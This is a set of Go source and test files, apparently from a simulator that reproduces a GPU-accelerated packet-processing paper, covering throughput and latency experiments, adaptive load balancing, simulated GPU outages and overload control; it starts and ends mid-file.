		fmt.Fprintf(w, "%-9s %-8s  %.2f Gbps p99.9 %-9v  %.2f Gbps shed %d\n",
			r.name, gbpsCell(r.rep.TxGbps),
			v.TxGbps, v.Latency.Percentile(99.9),
			a.TxGbps, a.ShedPackets+a.RxDropped)
	}
	vOn := on.Tenants[0].Latency.Percentile(99.9)
	vOff := off.Tenants[0].Latency.Percentile(99.9)
	fmt.Fprintf(w, "\nvictim p99.9: %v armed vs %v disarmed (governor must not worsen the victim: %s)\n",
		vOn, vOff, passFail(vOn <= vOff))
	return nil
}
