package bench

import (
	"fmt"
	"io"

	"nba/internal/core"
	"nba/internal/graph"
	"nba/internal/par"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

const offeredPerPort = 10e9 // the paper offers 80 Gbps over 8 ports

// gridJob is one point of an experiment grid: an optional explicit pipeline
// text (empty = derive it from spec.App/spec.LB) plus the run spec. Grid
// points are fully independent simulations, so they can execute concurrently.
type gridJob struct {
	cfg  string
	spec RunSpec
}

// runGrid executes independent grid points at the Options parallelism and
// returns the reports in slot order, so callers print rows in grid order and
// the experiment output is byte-identical at any worker count.
func runGrid(o Options, jobs []gridJob) ([]*core.Report, error) {
	return par.MapErr(len(jobs), o.workers(), func(i int) (*core.Report, error) {
		if jobs[i].cfg == "" {
			return Execute(jobs[i].spec)
		}
		return ExecuteConfig(jobs[i].cfg, jobs[i].spec)
	})
}

func init() {
	register(Experiment{
		ID:    "fig1",
		Title: "Throughput drop by batch splitting (no branch prediction)",
		Paper: "splitting into new batches degrades throughput up to ~40% vs a branch-free baseline",
		Run:   runFig1,
	})
	register(Experiment{
		ID:    "fig2",
		Title: "IPsec throughput vs offloading fraction (synthetic-CAIDA trace)",
		Paper: "maximum at ~80% offloading: +20% vs GPU-only, +40% vs CPU-only",
		Run:   runFig2,
	})
	register(Experiment{
		ID:    "composition",
		Title: "Composition overhead: latency of a linear no-op pipeline (sec 4.2)",
		Paper: "baseline ~16.1 us; ~+1 us per 9 no-op elements at 1 Gbps",
		Run:   runComposition,
	})
	register(Experiment{
		ID:    "fig9",
		Title: "Computation batching: throughput vs computation batch size",
		Paper: "batch 64 vs 1: 1.7-5.2x at 64 B; ~10% for IPsec 1500 B",
		Run:   runFig9,
	})
	register(Experiment{
		ID:    "fig10",
		Title: "Branch prediction benefit vs batch splitting",
		Paper: "masking limits degradation to ~10% when 99% of packets stay",
		Run:   runFig10,
	})
	register(Experiment{
		ID:    "fig11",
		Title: "Multi-core scalability (CPU-only and GPU-only)",
		Paper: "near-linear CPU scaling; GPU-only bends from device-thread overhead",
		Run:   runFig11,
	})
	register(Experiment{
		ID:    "fig12",
		Title: "Throughput vs packet size, CPU-only vs GPU-only",
		Paper: "IPv4: CPU wins 0-37%; IPv6: GPU wins 0-75%; IPsec crossover ~256 B; IDS: GPU 6-47x",
		Run:   runFig12,
	})
	register(Experiment{
		ID:    "fig13",
		Title: "Adaptive load balancing vs manual tuning",
		Paper: "ALB achieves >=92% of the manually-tuned optimum in all cases",
		Run:   runFig13,
	})
	register(Experiment{
		ID:    "fig14",
		Title: "Latency distributions (CPU-only and GPU-only)",
		Paper: "L2fwd p99.9 < 43 us; IPv4/IPv6 < 60 us; IPsec < 250 us; GPU 8-14x higher",
		Run:   runFig14,
	})
}

// --- Figures 1 and 10: batch splitting and branch prediction ---

func branchConfig(minority float64) string {
	return fmt.Sprintf(`
		b :: RandomWeightedBranch("%.3f");
		FromInput() -> b;
		b[0] -> EchoBack() -> ToOutput();
		b[1] -> EchoBack() -> ToOutput();
	`, minority)
}

func runBranchSweep(o Options, w io.Writer, includeMask bool) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	base := RunSpec{App: "echo", LB: "cpu", Size: 64, OfferedBps: offeredPerPort,
		Warmup: warm, Duration: dur, Seed: o.Seed}
	pcts := []int{50, 40, 30, 20, 10, 5, 1}
	jobs := []gridJob{{spec: base}} // slot 0: branch-free baseline
	for _, pct := range pcts {
		cfgText := branchConfig(float64(pct) / 100)
		split := graph.Options{BranchPrediction: false, OffloadChaining: true}
		spec := base
		spec.Opts = &split
		jobs = append(jobs, gridJob{cfg: cfgText, spec: spec})
		if includeMask {
			mask := graph.DefaultOptions()
			spec := base
			spec.Opts = &mask
			jobs = append(jobs, gridJob{cfg: cfgText, spec: spec})
		}
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	baseline := reps[0]
	stride := 1
	if includeMask {
		stride = 2
		fmt.Fprintf(w, "%-22s %-10s %-10s %-10s\n", "minority(%)", "split", "masked", "baseline")
	} else {
		fmt.Fprintf(w, "%-22s %-10s %-10s\n", "minority(%)", "split", "baseline")
	}
	for i, pct := range pcts {
		rSplit := reps[1+i*stride]
		if includeMask {
			rMask := reps[2+i*stride]
			fmt.Fprintf(w, "%-22d %s %s %s\n", pct,
				gbpsCell(rSplit.TxGbps), gbpsCell(rMask.TxGbps), gbpsCell(baseline.TxGbps))
		} else {
			fmt.Fprintf(w, "%-22d %s %s\n", pct, gbpsCell(rSplit.TxGbps), gbpsCell(baseline.TxGbps))
		}
	}
	return nil
}

func runFig1(o Options, w io.Writer) error  { return runBranchSweep(o, w, false) }
func runFig10(o Options, w io.Writer) error { return runBranchSweep(o, w, true) }

// --- Figure 2: offload fraction sweep ---

func runFig2(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 25*simtime.Millisecond)
	var jobs []gridJob
	var fracs []int
	for frac := 0; frac <= 100; frac += 10 {
		fracs = append(fracs, frac)
		jobs = append(jobs, gridJob{spec: RunSpec{
			App: "ipsec", LB: fmt.Sprintf("fixed=%.2f", float64(frac)/100),
			Size: -1, OfferedBps: offeredPerPort, Warmup: warm, Duration: dur, Seed: o.Seed}})
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	gpuOnly := reps[len(reps)-1].TxGbps
	fmt.Fprintf(w, "%-22s %-12s %-16s\n", "offload fraction(%)", "Gbps", "vs GPU-only(%)")
	for i, frac := range fracs {
		rel := (reps[i].TxGbps/gpuOnly - 1) * 100
		fmt.Fprintf(w, "%-22d %s      %+7.1f\n", frac, gbpsCell(reps[i].TxGbps), rel)
	}
	return nil
}

// --- Section 4.2: composition overhead ---

func runComposition(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 25*simtime.Millisecond)
	var jobs []gridJob
	var ks []int
	for k := 0; k <= 27; k += 3 {
		cfgText := "FromInput() "
		for i := 0; i < k; i++ {
			cfgText += "-> NoOp() "
		}
		cfgText += "-> EchoBack() -> ToOutput();"
		ks = append(ks, k)
		jobs = append(jobs, gridJob{cfg: cfgText, spec: RunSpec{
			App: "echo", Size: 64, OfferedBps: 1e9 / 8, // 1 Gbps total
			Warmup: warm, Duration: dur, Seed: o.Seed}})
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "%-12s %-14s %-14s\n", "no-ops", "avg lat(us)", "p99.9(us)")
	for i, k := range ks {
		fmt.Fprintf(w, "%-12d %-14.2f %-14.2f\n", k,
			reps[i].Latency.Mean().Micros(), reps[i].Latency.Percentile(99.9).Micros())
	}
	return nil
}

// --- Figure 9: computation batching ---

func runFig9(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	cases := []struct {
		app  string
		size int
	}{
		{"ipv4", 64}, {"ipv6", 64}, {"ipsec", 64}, {"ipsec", 1500},
	}
	batches := []int{1, 32, 64}
	var jobs []gridJob
	for _, c := range cases {
		for _, bs := range batches {
			jobs = append(jobs, gridJob{spec: RunSpec{
				App: c.app, LB: "cpu", Size: c.size, OfferedBps: offeredPerPort,
				CompBatch: bs, Warmup: warm, Duration: dur, Seed: o.Seed}})
		}
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "%-16s %-10s %-10s %-10s %-8s\n", "app,size", "batch=1", "batch=32", "batch=64", "gain")
	for i, c := range cases {
		row := reps[i*len(batches) : (i+1)*len(batches)]
		fmt.Fprintf(w, "%-16s %s %s %s %7.2fx\n", fmt.Sprintf("%s,%dB", c.app, c.size),
			gbpsCell(row[0].TxGbps), gbpsCell(row[1].TxGbps), gbpsCell(row[2].TxGbps),
			row[2].TxGbps/row[0].TxGbps)
	}
	return nil
}

// --- Figure 11: multi-core scalability ---

func runFig11(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	apps, modes, workerCounts := []string{"ipv4", "ipv6", "ipsec"}, []string{"cpu", "gpu"}, []int{1, 2, 4, 7}
	var jobs []gridJob
	for _, app := range apps {
		for _, mode := range modes {
			for _, workers := range workerCounts {
				jobs = append(jobs, gridJob{spec: RunSpec{
					App: app, LB: mode, Size: 64, OfferedBps: offeredPerPort,
					Workers: workers, Warmup: warm, Duration: dur, Seed: o.Seed}})
			}
		}
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "%-10s %-8s %-10s %-10s %-10s %-10s\n",
		"app", "mode", "w=1", "w=2", "w=4", "w=7")
	slot := 0
	for _, app := range apps {
		for _, mode := range modes {
			row := fmt.Sprintf("%-10s %-8s", app, mode)
			for range workerCounts {
				row += " " + gbpsCell(reps[slot].TxGbps) + "  "
				slot++
			}
			fmt.Fprintln(w, row)
		}
	}
	return nil
}

// --- Figure 12: packet-size sweep ---

var fig12Sizes = []int{64, 128, 256, 512, 1024, 1500}

func runFig12(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	apps, modes := []string{"ipv4", "ipv6", "ipsec", "ids"}, []string{"cpu", "gpu"}
	var jobs []gridJob
	for _, app := range apps {
		for _, mode := range modes {
			for _, size := range fig12Sizes {
				jobs = append(jobs, gridJob{spec: RunSpec{
					App: app, LB: mode, Size: size, OfferedBps: offeredPerPort,
					Warmup: warm, Duration: dur, Seed: o.Seed}})
			}
		}
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "%-10s %-8s", "app", "mode")
	for _, s := range fig12Sizes {
		fmt.Fprintf(w, " %7dB ", s)
	}
	fmt.Fprintln(w)
	slot := 0
	for _, app := range apps {
		for _, mode := range modes {
			fmt.Fprintf(w, "%-10s %-8s", app, mode)
			for range fig12Sizes {
				fmt.Fprintf(w, " %s  ", gbpsCell(reps[slot].TxGbps))
				slot++
			}
			fmt.Fprintln(w)
		}
	}
	return nil
}

// --- Figure 13: adaptive load balancing ---

type fig13Case struct {
	app  string
	size int // <=0: CAIDA
	name string
}

var fig13Cases = []fig13Case{
	{"ipv4", 64, "IPv4,64B"},
	{"ipv6", 64, "IPv6,64B"},
	{"ipsec", 64, "IPsec,64B"},
	{"ipsec", 256, "IPsec,256B"},
	{"ipsec", 512, "IPsec,512B"},
	{"ipsec", 1024, "IPsec,1024B"},
	{"ids", 64, "IDS,64B"},
	{"ipsec", -1, "IPsec,CAIDA"},
}

func runFig13(o Options, w io.Writer) error {
	// The sweep runs keep full-length warmup even in Quick mode so that the
	// GPU pipeline (~1 ms deep) reaches steady state before measuring.
	warm, dur := 4*simtime.Millisecond, 12*simtime.Millisecond
	albWarm, albDur := 5*simtime.Millisecond, 300*simtime.Millisecond
	if o.Quick {
		dur = 8 * simtime.Millisecond
		albDur = 100 * simtime.Millisecond
	}
	// Per case: the 11-point manual offload-fraction sweep plus one ALB run,
	// flattened into a single grid (8 x 12 independent simulations).
	const fracsPerCase = 11
	const perCase = fracsPerCase + 1
	var jobs []gridJob
	for _, c := range fig13Cases {
		base := RunSpec{App: c.app, Size: c.size, OfferedBps: offeredPerPort,
			Warmup: warm, Duration: dur, Seed: o.Seed}
		for frac := 0; frac <= 100; frac += 10 {
			spec := base
			spec.LB = fmt.Sprintf("fixed=%.2f", float64(frac)/100)
			jobs = append(jobs, gridJob{spec: spec})
		}
		alb := base
		alb.LB = "adaptive"
		alb.Warmup, alb.Duration = albWarm, albDur
		alb.ALBObserve = 250 * simtime.Microsecond
		alb.ALBUpdate = 1 * simtime.Millisecond
		alb.LatencySample = 64
		jobs = append(jobs, gridJob{spec: alb})
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "%-14s %-9s %-9s %-9s %-9s %-9s %-8s\n",
		"case", "cpu", "gpu", "manual", "ALB", "ALB/man%", "finalW")
	for ci, c := range fig13Cases {
		row := reps[ci*perCase : (ci+1)*perCase]
		manual := 0.0
		for _, r := range row[:fracsPerCase] {
			if r.TxGbps > manual {
				manual = r.TxGbps
			}
		}
		cpuG, gpuG := row[0].TxGbps, row[fracsPerCase-1].TxGbps
		r := row[fracsPerCase]
		// Judge ALB by its converged tail, not the convergence transient.
		albG := r.TailGbps
		if albG == 0 {
			albG = r.TxGbps
		}
		fmt.Fprintf(w, "%-14s %8.2f %8.2f %8.2f %8.2f %8.1f %7.2f\n",
			c.name, cpuG, gpuG, manual, albG, albG/manual*100, r.FinalW)
	}
	return nil
}

// --- Figure 14: latency distributions ---

func runFig14(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 40*simtime.Millisecond)
	type cfg struct {
		name string
		app  string
		size int
		mode string
		bps  float64 // total offered
	}
	cases := []cfg{
		{"L2fwd,64B cpu", "l2fwd", 64, "cpu", 10e9},
		{"IPv4,64B cpu", "ipv4", 64, "cpu", 10e9},
		{"IPv6,64B cpu", "ipv6", 64, "cpu", 10e9},
		{"IPsec,64B cpu", "ipsec", 64, "cpu", 3e9},
		{"IPsec,1024B cpu", "ipsec", 1024, "cpu", 3e9},
		{"IPv4,64B gpu", "ipv4", 64, "gpu", 10e9},
		{"IPv6,64B gpu", "ipv6", 64, "gpu", 10e9},
		{"IPsec,64B gpu", "ipsec", 64, "gpu", 3e9},
		{"IPsec,1024B gpu", "ipsec", 1024, "gpu", 3e9},
	}
	var jobs []gridJob
	for _, c := range cases {
		jobs = append(jobs, gridJob{spec: RunSpec{
			App: c.app, LB: c.mode, Size: c.size, OfferedBps: c.bps / 8,
			Warmup: warm, Duration: dur, Seed: o.Seed}})
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "%-18s %9s %9s %9s %9s %9s\n", "config", "min(us)", "avg(us)", "p50(us)", "p99(us)", "p99.9(us)")
	for i, c := range cases {
		h := &reps[i].Latency
		fmt.Fprintf(w, "%-18s %9.1f %9.1f %9.1f %9.1f %9.1f\n", c.name,
			h.Min().Micros(), h.Mean().Micros(),
			h.Percentile(50).Micros(), h.Percentile(99).Micros(), h.Percentile(99.9).Micros())
	}
	return nil
}

// cloneCostModel deep-copies the default cost model for per-run overrides.
func cloneCostModel() *sysinfo.CostModel {
	m := *sysinfo.Default()
	return &m
}

func init() {
	register(Experiment{
		ID:    "alb-reconverge",
		Title: "ALB re-convergence after a workload change (sec 3.4)",
		Paper: "continuous perturbations let w find a new convergence point when the workload changes",
		Run:   runALBReconverge,
	})
}

// runALBReconverge starts with 64 B IPsec traffic (GPU-favoured, W should
// climb) and switches to 1024 B mid-run (CPU-favoured, W should fall),
// printing the controller's W trajectory around the change.
func runALBReconverge(o Options, w io.Writer) error {
	warm := 5 * simtime.Millisecond
	phase := 150 * simtime.Millisecond
	if o.Quick {
		phase = 60 * simtime.Millisecond
	}
	spec := RunSpec{App: "ipsec", LB: "adaptive", Size: 64, OfferedBps: offeredPerPort,
		Warmup: warm, Duration: 2 * phase, Seed: o.Seed,
		ALBObserve: 250 * simtime.Microsecond, ALBUpdate: simtime.Millisecond,
		LatencySample: 64,
		GeneratorChanges: []core.GeneratorChange{
			{At: warm + phase, Generator: GeneratorFor("ipsec", 1024, o.Seed+1)},
		},
	}
	r, err := Execute(spec)
	if err != nil {
		return err
	}
	n := len(r.LBTrace)
	if n == 0 {
		return fmt.Errorf("alb-reconverge: no controller trace")
	}
	fmt.Fprintf(w, "phase 1: IPsec 64B (GPU-favoured)   phase 2: IPsec 1024B (CPU-favoured)\n")
	fmt.Fprintf(w, "%-10s %-8s\n", "move#", "W")
	step := n / 20
	if step == 0 {
		step = 1
	}
	for i := 0; i < n; i += step {
		fmt.Fprintf(w, "%-10d %-8.2f\n", i, r.LBTrace[i].W)
	}
	peak := 0.0
	for _, pt := range r.LBTrace[:n/2] {
		if pt.W > peak {
			peak = pt.W
		}
	}
	fmt.Fprintf(w, "phase-1 peak W: %.2f, final W: %.2f (expect the final to settle below the peak:\n", peak, r.FinalW)
	fmt.Fprintf(w, "1024B IPsec has an interior optimum near w=0.3-0.5, while 64B pushes w toward 1)\n")
	return nil
}
