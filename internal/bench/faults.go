package bench

import (
	"fmt"
	"io"

	"nba/internal/fault"
	"nba/internal/simtime"
)

func init() {
	register(Experiment{
		ID:    "faults",
		Title: "Graceful degradation under a GPU outage (sec 3.4 robustness)",
		Paper: "ALB needs no device-specific knowledge: when the device dies, offload failures collapse w to 0 and the CPU carries the load; after recovery, perturbation re-discovers the optimum",
		Run:   runFaults,
	})
}

// FaultsScenario is the canonical fault-injection run shared by the bench
// experiment, its regression test and the nbatrace self-check: 64 B IPsec
// under the adaptive balancer while device 0 suffers a scripted outage.
// The returned spec carries the plan; failAt/recoverAt locate the outage on
// the virtual clock for assertions and output.
func FaultsScenario(o Options) (spec RunSpec, failAt, recoverAt simtime.Time) {
	warm := 5 * simtime.Millisecond
	dur := 250 * simtime.Millisecond
	failAt = 40 * simtime.Millisecond
	recoverAt = 70 * simtime.Millisecond
	if o.Quick {
		dur = 110 * simtime.Millisecond
		failAt = 12 * simtime.Millisecond
		recoverAt = 26 * simtime.Millisecond
	}
	spec = RunSpec{
		App: "ipsec", LB: "adaptive", Size: 64, OfferedBps: offeredPerPort,
		Warmup: warm, Duration: dur, Seed: o.Seed,
		// A 2 ms control period fills the controller's 16-sample smoothing
		// window every step; with shorter periods the boundary perturbations
		// that escape the post-outage collapse are judged on too few
		// batch-quantised samples.
		ALBObserve:    250 * simtime.Microsecond,
		ALBUpdate:     2 * simtime.Millisecond,
		LatencySample: 64,
		FaultPlan:     fault.GPUOutage(failAt, recoverAt, 0),
	}
	return spec, failAt, recoverAt
}

// runFaults executes the outage scenario next to a fault-free twin and
// prints the controller's W trajectory around the outage: collapse to 0
// while offload tasks fail, CPU fallback carrying the load, and the
// re-climb toward the twin's optimum after recovery.
func runFaults(o Options, w io.Writer) error {
	spec, failAt, recoverAt := FaultsScenario(o)
	faulted, err := Execute(spec)
	if err != nil {
		return err
	}
	clean := spec
	clean.FaultPlan = nil
	baseline, err := Execute(clean)
	if err != nil {
		return err
	}

	fmt.Fprintf(w, "IPsec 64B adaptive, device 0 fails at %v, recovers at %v\n\n", failAt, recoverAt)
	fmt.Fprintf(w, "%-10s %-8s %-8s\n", "time", "W", "Mpps")
	n := len(faulted.LBTrace)
	step := n / 24
	if step == 0 {
		step = 1
	}
	for i := 0; i < n; i += step {
		pt := faulted.LBTrace[i]
		mark := ""
		if pt.At >= failAt && pt.At < recoverAt {
			mark = "  <- outage"
		}
		fmt.Fprintf(w, "%-10v %-8.3f %-8.2f%s\n", pt.At, pt.W, pt.Throughput/1e6, mark)
	}
	fmt.Fprintf(w, "\nfailed tasks: %d   timed out: %d   packets rescued on CPU: %d\n",
		faulted.FailedTasks, faulted.TimedOutTasks, faulted.FallbackPackets)
	fmt.Fprintf(w, "final W: %.3f faulted vs %.3f fault-free (re-climb target)\n",
		faulted.FinalW, baseline.FinalW)
	fmt.Fprintf(w, "throughput: %s Gbps faulted vs %s fault-free (outage window included)\n",
		gbpsCell(faulted.TxGbps), gbpsCell(baseline.TxGbps))
	return nil
}
