package core

import (
	"testing"

	"nba/internal/apps/ipsec"
	"nba/internal/element"
	"nba/internal/gen"
	"nba/internal/graph"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

// espVerifier is a test element spliced in after the IPsec chain: it checks
// that every frame it sees is a structurally valid, correctly authenticated
// ESP packet — proving the *offloaded* device path really encrypted and
// authenticated the packets, not just accounted for them.
type espVerifier struct {
	element.Base
	db *ipsec.SADB

	Checked uint64
	Bad     uint64
}

func (*espVerifier) Class() string { return "ESPVerifier" }

func (e *espVerifier) Configure(ctx *element.ConfigContext, args []string) error {
	// Same deterministic parameters as the pipeline's SADB ("sas=256",
	// default seed), so keys match.
	db, err := ipsec.NewSADB(256, 99)
	if err != nil {
		return err
	}
	e.db = db
	return nil
}

func (e *espVerifier) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	e.Checked++
	f := pkt.Data()
	outer := f[packet.EthHdrLen:]
	if packet.IPv4Proto(outer) != packet.ProtoESP {
		e.Bad++
		return 0
	}
	ok, err := ipsec.Verify(pkt, e.db)
	if err != nil || !ok {
		e.Bad++
	}
	return 0
}

func TestOffloadedIPsecFramesAreCryptographicallyValid(t *testing.T) {
	var verifiers []*espVerifier
	element.Register("ESPVerifier", func() element.Element {
		v := &espVerifier{}
		verifiers = append(verifiers, v)
		return v
	})
	cfg := Config{
		Topology: sysinfo.SingleSocketTopology(4, 2),
		GraphConfig: `
			FromInput() -> CheckIPHeader() -> IPsecESPencap("sas=256")
				-> LoadBalance("gpu")
				-> IPsecAES("sas=256") -> IPsecHMAC("sas=256")
				-> ESPVerifier() -> ToOutput();`,
		Generator:         &gen.UDP4{FrameLen: 256, Flows: 512, Seed: 4},
		OfferedBpsPerPort: 2e9,
		Warmup:            2 * simtime.Millisecond,
		Duration:          10 * simtime.Millisecond,
		Seed:              5,
	}
	r := run(t, cfg)
	if r.OffloadedPackets == 0 {
		t.Fatal("nothing offloaded")
	}
	var checked, bad uint64
	for _, v := range verifiers {
		checked += v.Checked
		bad += v.Bad
	}
	if checked == 0 {
		t.Fatal("verifier saw no packets")
	}
	if bad != 0 {
		t.Fatalf("%d of %d offloaded frames failed ESP verification", bad, checked)
	}
}

func TestLowLoadAggregationFlushBoundsLatency(t *testing.T) {
	// At light load an offload aggregate never fills; the age-based flush
	// (MaxAggDelay) plus idle flush must still bound latency.
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "gpu"), 5e8, 256)
	cfg.Duration = 15 * simtime.Millisecond
	r := run(t, cfg)
	if r.OffloadedPackets == 0 {
		t.Fatal("nothing offloaded at low load")
	}
	cm := sysinfo.Default()
	bound := cm.MaxAggDelay + 2*simtime.Millisecond
	if max := r.Latency.Max(); max > bound {
		t.Errorf("max latency %v exceeds aggregation+device bound %v", max, bound)
	}
}

func TestDeviceAdmissionBoundsQueueing(t *testing.T) {
	// Under heavy overload the device-backlog admission control must keep
	// offload queueing bounded: p99 stays within a few task-service times
	// rather than growing with the queue.
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "gpu"), 10e9, 64)
	cfg.Duration = 15 * simtime.Millisecond
	r := run(t, cfg)
	if r.RxDropped == 0 {
		t.Error("overloaded GPU run shed no load at the NIC")
	}
	// Latency is dominated by bounded NIC-queue wait plus bounded device
	// backlog — it must not grow with the (unbounded) overload.
	if p99 := r.Latency.Percentile(99); p99 > 10*simtime.Millisecond {
		t.Errorf("p99 latency %v despite admission control", p99)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d", r.PoolOutstanding)
	}
}

func TestOffloadChainingReducesCopies(t *testing.T) {
	mk := func(chaining bool) *Report {
		cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "gpu"), 4e9, 256)
		g := graph.Options{BranchPrediction: true, OffloadChaining: chaining}
		cfg.GraphOpts = &g
		return run(t, cfg)
	}
	with := mk(true)
	without := mk(false)
	// Without chaining, AES and HMAC each become a device task over the
	// same packets, doubling device packet traffic and H2D bytes.
	wp, wop := with.DeviceStats[0].Packets, without.DeviceStats[0].Packets
	if wop < wp*18/10 || wop > wp*22/10 {
		t.Errorf("device packets: chaining off %d vs on %d — expected ~2x", wop, wp)
	}
	wb, wob := with.DeviceStats[0].H2DBytes, without.DeviceStats[0].H2DBytes
	if wob < wb*18/10 {
		t.Errorf("H2D bytes: chaining off %d vs on %d — expected ~2x (duplicate copies)", wob, wb)
	}
	if without.TxGbps >= with.TxGbps {
		t.Errorf("chaining off (%.2fG) not slower than on (%.2fG)", without.TxGbps, with.TxGbps)
	}
	if with.PoolOutstanding != 0 || without.PoolOutstanding != 0 {
		t.Error("leak in chained/unchained offload")
	}
}

func TestALBReconvergesAfterWorkloadShift(t *testing.T) {
	// Shift from a GPU-favouring to a CPU-favouring IPsec workload mid-run
	// and check the controller moves W downward (paper §3.4: perturbations
	// let w find a new convergence point).
	cfg := Config{
		GraphConfig:       sprintfConfig(ipsecConfigTpl, "adaptive"),
		Generator:         &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1},
		OfferedBpsPerPort: 10e9,
		WorkersPerSocket:  7,
		Warmup:            5 * simtime.Millisecond,
		Duration:          150 * simtime.Millisecond,
		ALBObserve:        250 * simtime.Microsecond,
		ALBUpdate:         1 * simtime.Millisecond,
		LatencySample:     64,
		Seed:              3,
	}
	sys, err := NewSystem(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := sys.Run()
	if err != nil {
		t.Fatal(err)
	}
	// 64B IPsec favours the GPU: W should have climbed well above start.
	if r.FinalW < 0.6 {
		t.Errorf("64B IPsec: final W = %v, want > 0.6 (GPU-favouring)", r.FinalW)
	}
	if len(r.LBTrace) < 20 {
		t.Errorf("only %d controller updates", len(r.LBTrace))
	}
}

func TestBoundedLatencyBalancerAvoidsGPU(t *testing.T) {
	// At light load, throughput is the same at any offload fraction, but
	// the GPU path adds ~600us of aggregation+device latency. With a 100us
	// p99 bound the bounded-latency controller must park W at ~0; the
	// unbounded controller has no such pressure.
	base := Config{
		Topology:          sysinfo.SingleSocketTopology(4, 2),
		GraphConfig:       sprintfConfig(ipsecConfigTpl, "adaptive"),
		Generator:         &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1},
		OfferedBpsPerPort: 0.5e9,
		Warmup:            5 * simtime.Millisecond,
		Duration:          120 * simtime.Millisecond,
		ALBObserve:        250 * simtime.Microsecond,
		ALBUpdate:         1 * simtime.Millisecond,
		Seed:              9,
	}
	bounded := base
	bounded.ALBLatencyBound = 100 * simtime.Microsecond
	rB := run(t, bounded)
	if rB.FinalW > 0.15 {
		t.Errorf("bounded: final W = %v, want ~0 (GPU violates the bound)", rB.FinalW)
	}
	// And the resulting p99 respects the bound (CPU path keeps up easily).
	if p99 := rB.Latency.Percentile(99); p99 > 400*simtime.Microsecond {
		t.Errorf("bounded: overall p99 = %v (includes convergence transient), want well under 400us", p99)
	}
	if len(rB.LBTrace) == 0 {
		t.Error("bounded controller produced no trace")
	}
}

func TestGeneratorChangeMidRun(t *testing.T) {
	// Swap from 64B to 1024B traffic mid-run: the packet rate must drop
	// (same offered wire rate, bigger frames) and the system must stay
	// leak-free across the change.
	cfg := Config{
		Topology:          sysinfo.SingleSocketTopology(4, 2),
		GraphConfig:       `FromInput() -> L2Forward() -> ToOutput();`,
		Generator:         &gen.UDP4{FrameLen: 64, Flows: 256, Seed: 1},
		OfferedBpsPerPort: 2e9,
		Warmup:            1 * simtime.Millisecond,
		Duration:          10 * simtime.Millisecond,
		Seed:              6,
		GeneratorChanges: []GeneratorChange{
			{At: 6 * simtime.Millisecond, Generator: &gen.UDP4{FrameLen: 1024, Flows: 256, Seed: 2}},
		},
	}
	r := run(t, cfg)
	if r.PoolOutstanding != 0 {
		t.Errorf("leak across generator change: %d", r.PoolOutstanding)
	}
	// Wire throughput stays at the offered 4G despite the frame-size jump.
	if r.TxGbps < 3.7 || r.TxGbps > 4.2 {
		t.Errorf("TxGbps = %.2f across generator change, want ~4", r.TxGbps)
	}
	if r.RxDropped != 0 {
		t.Errorf("%d drops below capacity", r.RxDropped)
	}
}
