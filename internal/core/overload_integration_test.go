package core

// End-to-end tests for the overload-control subsystem (internal/overload
// threaded through device admission, worker shedding and the governor):
// bounded device queues under a hung device, the conservation identity with
// shedding over every sample application, the tail-latency bound under 2x
// offered load, and determinism of the shedding decisions.

import (
	"testing"

	"nba/internal/fault"
	"nba/internal/gen"
	"nba/internal/invariant"
	"nba/internal/overload"
	"nba/internal/simtime"
	"nba/internal/trace"
)

const (
	ipv4LBConfigTpl = `
		FromInput() -> CheckIPHeader() -> LoadBalance("%s")
			-> IPLookup("entries=4096", "seed=42") -> DecIPTTL() -> ToOutput();`

	ipv6LBConfigTpl = `
		FromInput() -> CheckIP6Header() -> LoadBalance("%s")
			-> LookupIP6Route("entries=4096", "seed=42") -> DecIP6HLIM() -> ToOutput();`

	idsLBConfigTpl = `
		FromInput() -> CheckIPHeader() -> LoadBalance("%s")
			-> IDSMatchAC("alert") -> IDSMatchRE("alert") -> EchoBack() -> ToOutput();`
)

// tightOverload is an overload config whose CoDel clock fits the short test
// runs (the production default interval of 500 us is sized for long-lived
// service and barely ramps within ~10 simulated milliseconds).
func tightOverload() *overload.Config {
	return &overload.Config{
		CoDelTarget:   50 * simtime.Microsecond,
		CoDelInterval: 100 * simtime.Microsecond,
	}
}

func TestOverloadBoundsDeviceQueueDuringHang(t *testing.T) {
	// A hung device stops completing tasks, but worker-side rescue frees the
	// inflight slots every TaskTimeout, so without admission control the hung
	// device's pending queue grows for as long as the hang lasts. With the
	// bounded task queue armed, submissions beyond the depth are refused
	// (and rescued or shed) and the queue high-watermark respects the bound.
	mk := func() Config {
		cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
		cfg.Duration = 12 * simtime.Millisecond
		cfg.TaskTimeout = 500 * simtime.Microsecond
		cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
			{At: 3 * simtime.Millisecond, Kind: fault.DeviceHang, Device: 0},
